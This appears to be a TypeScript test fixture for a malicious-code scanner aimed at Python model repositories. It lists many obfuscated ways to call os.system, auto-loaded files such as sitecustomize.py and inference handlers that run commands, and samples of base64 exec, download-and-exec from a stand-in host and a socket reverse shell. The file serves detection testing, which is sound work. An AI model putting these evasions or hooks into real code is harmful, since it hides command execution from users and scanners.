import { Buffer } from 'node:buffer';
import type { Spelling } from './spellings-pickle.ts';

const BASE = 'from transformers import PreTrainedModel\n';
const IN_CLASS = (before: string, line: string): string =>
  `${before}\n${BASE}class M(PreTrainedModel):\n    def __init__(self, config):\n        ${line}\n`;

/** One call, as a person who does not want it found writes it. */
const CALLS: readonly (readonly [before: string, line: string])[] = [
  ['import os', "os.system('id')"],
  ['import os as o', "o.system('id')"],
  ['from os import system as s', "s('id')"],
  ['from os import *', "system('id')"],
  ['import os', "x = os\n        x.system('id')"],
  ['import os', "getattr(os, 'sys' + 'tem')('id')"],
  ['import os', "os.__dict__['system']('id')"],
  ['import os', "vars(os)['system']('id')"],
  ['import sys', "sys.modules['os'].system('id')"],
  ['', "__import__('os').system('id')"],
  ['import importlib', "importlib.import_module('o' + 's').system('id')"],
  ['from importlib import import_module as i', "i('subprocess').run(['id'])"],
  ['import subprocess', 'list(map(subprocess.getoutput, ["id"]))'],
  ['import functools, os', "functools.partial(os.system, 'id')()"],
  ['', "__builtins__['exec']('print(1)')"],
  ['import builtins', "builtins.eval('print(1)')"],
  ['import os', "self.run = os.popen\n        self.run('id')"],
  ['import ｏｓ', "ｏｓ.system('id')"],
  ['import asyncio', "asyncio.run(asyncio.create_subprocess_shell('id'))"],
  ['import os', "f = lambda c=os.system: c('id')\n        f()"],
  ['import os', "(s := os.system)('id')"],
];

const code = (kind: string, path: string, text: string): Spelling => ({ kind, path, content: Buffer.from(text) });
const SYSTEM = "import os\n\ndef run(data):\n    os.system('id')\n";

/** Files that servers and libraries import by their place. */
const CONVENTIONS: readonly Spelling[] = [
  code(
    'Triton',
    '1/model.py',
    `class TritonPythonModel:\n    def initialize(self, args):\n        import os\n        os.system('id')\n`,
  ),
  code(
    'Cog',
    'predict.py',
    `from cog import BasePredictor\nimport os\nclass Predictor(BasePredictor):\n    def setup(self):\n        os.system('id')\n`,
  ),
  code('Transformers', 'custom_generate/generate.py', SYSTEM.replace('run', 'generate')),
  code('Azure', 'score.py', SYSTEM.replace('run', 'init')),
  code('MLflow', 'code/model.py', SYSTEM),
  code('SageMaker', 'code/inference.py', SYSTEM.replace('run', 'model_fn')),
  code('Hugging Face', 'handler.py', SYSTEM),
  code('Python', 'sitecustomize.py', SYSTEM),
];

const DISGUISED: readonly Spelling[] = [
  code('decoded and run', 'a.py', "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
  code('decoded and run', 'a.py', "import base64 as b\nc = b.b64decode('cHJpbnQoMSk=')\nd = c.decode()\nexec(d)\n"),
  code('decoded and run', 'a.py', "from zlib import decompress as d\nexec(compile(d(b'x'), 'a', 'exec'))\n"),
  code(
    'downloaded and run',
    'a.py',
    "import urllib.request as u\nwith u.urlopen('http://h/x') as r:\n    exec(r.read())\n",
  ),
  code('a name pieced together', 'a.py', "__import__('o' + 's').system('id')\n"),
  code('a name pieced together', 'a.py', "__import__(chr(111) + chr(115)).system('id')\n"),
  code('a name pieced together', 'a.py', "import importlib\nimportlib.import_module('so'[::-1]).system('id')\n"),
  code(
    'a shell for a connection',
    'a.py',
    "import socket, os, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('sh')\n",
  ),
  code(
    'what is received is run',
    'a.py',
    'import socket, subprocess\ns = socket.socket()\nsubprocess.getoutput(s.recv(1024).decode())\n',
  ),
  code('an encoding that hides', 'a.py', '# -*- coding: utf-7 -*-\n+AAo-print(1)\n'),
];

export const CODE: readonly Spelling[] = [
  ...CALLS.map(([before, line], at) =>
    code(`a call in another spelling, ${at + 1}`, 'modeling_x.py', IN_CLASS(before, line)),
  ),
  ...CONVENTIONS,
  ...DISGUISED,
];
